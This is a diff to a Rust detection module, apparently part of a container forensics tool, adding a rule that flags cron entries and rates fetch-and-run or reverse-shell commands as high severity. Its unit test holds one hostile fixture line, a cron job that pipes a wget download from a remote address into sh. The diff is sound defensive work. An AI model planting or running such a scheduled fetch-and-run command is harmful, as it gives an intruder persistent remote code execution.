@@ -1,6 +1,7 @@
-//! Rules on what makes an intruder stay: `/etc/ld.so.preload` hooks, and what changed
-//! since the image that matters (set-id files, executables, SSH keys, cron entries,
-//! overlay markers).
+//! Rules on what makes an intruder stay: `/etc/ld.so.preload` hooks, scheduled
+//! commands in the collected cron files (any route), and what changed since the image
+//! that matters (set-id files, executables, SSH keys, cron entries, overlay markers;
+//! the node route's drift).
 
 use super::{ev, Finding, Severity};
 use crate::examine::facts::Facts;
@@ -28,6 +29,42 @@ pub fn ld_so_preload(f: &Facts, out: &mut Vec<Finding>) {
         ),
         evidence: vec![ev(f, LD_SO_PRELOAD, String::new())],
     });
+}
+
+/// Every scheduled command in the collected cron files: high when it does what a
+/// history line must not (fetch and run, a reverse shell: `HISTORY_PATTERNS`), info
+/// otherwise (a container seldom schedules anything, so each is listed). Comments,
+/// blank lines and variable settings (`MAILTO=`, `PATH=`) are not commands.
+pub fn cron_entries(f: &Facts, out: &mut Vec<Finding>) {
+    for l in &f.cron {
+        let text = l.text.trim();
+        let setting = text.split_once('=').is_some_and(|(k, _)| {
+            !k.is_empty() && k.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
+        });
+        if text.is_empty() || text.starts_with('#') || setting {
+            continue;
+        }
+        let member = f.cron_files.get(l.file).map_or("", String::as_str);
+        let hits = super::history::dangers(text);
+        let (severity, why) = if hits.is_empty() {
+            (Severity::Info, "a scheduled command".to_owned())
+        } else {
+            (
+                Severity::High,
+                format!("runs on a schedule and {}", hits.join("; ")),
+            )
+        };
+        out.push(Finding {
+            severity,
+            rule: "cron-entry",
+            sentence: format!(
+                "{} line {}: `{text}` {why}",
+                member.trim_start_matches("files"),
+                l.number
+            ),
+            evidence: vec![ev(f, member, format!("line {}", l.number))],
+        });
+    }
 }
 
 /// How much one change matters, and why; `None` when it is not a finding.
@@ -140,5 +177,41 @@ mod tests {
             s[0].starts_with("/usr/local/bin/sx: a set-id file (-rwsr-xr-x) added"),
             "{s:?}"
         );
+    }
+
+    #[test]
+    fn scheduled_commands_are_listed_and_those_that_fetch_and_run_are_high() {
+        use crate::examine::facts::HistoryLine;
+        let mut f = super::super::facts();
+        f.cron_files.push("files/etc/crontabs/root".into());
+        for (i, l) in [
+            "# m h dom mon dow command",
+            "MAILTO=\"\"",
+            "",
+            "*/5 * * * * wget -qO- http://198.51.100.7/x | sh",
+            "0 3 * * * /usr/local/bin/backup",
+        ]
+        .iter()
+        .enumerate()
+        {
+            f.cron.push(HistoryLine {
+                file: 0,
+                number: i + 1,
+                text: (*l).into(),
+            });
+        }
+        let found = super::super::all(&f);
+        let s: Vec<(&str, &str, &str)> = found
+            .iter()
+            .map(|x| (x.severity.name(), x.rule, x.sentence.as_str()))
+            .collect();
+        assert_eq!(
+            s,
+            [
+                ("high", "cron-entry", "/etc/crontabs/root line 4: `*/5 * * * * wget -qO- http://198.51.100.7/x | sh` runs on a schedule and fetches code and runs it"),
+                ("info", "cron-entry", "/etc/crontabs/root line 5: `0 3 * * * /usr/local/bin/backup` a scheduled command"),
+            ]
+        );
+        assert_eq!(found[0].evidence[0].at, "line 4");
     }
 }
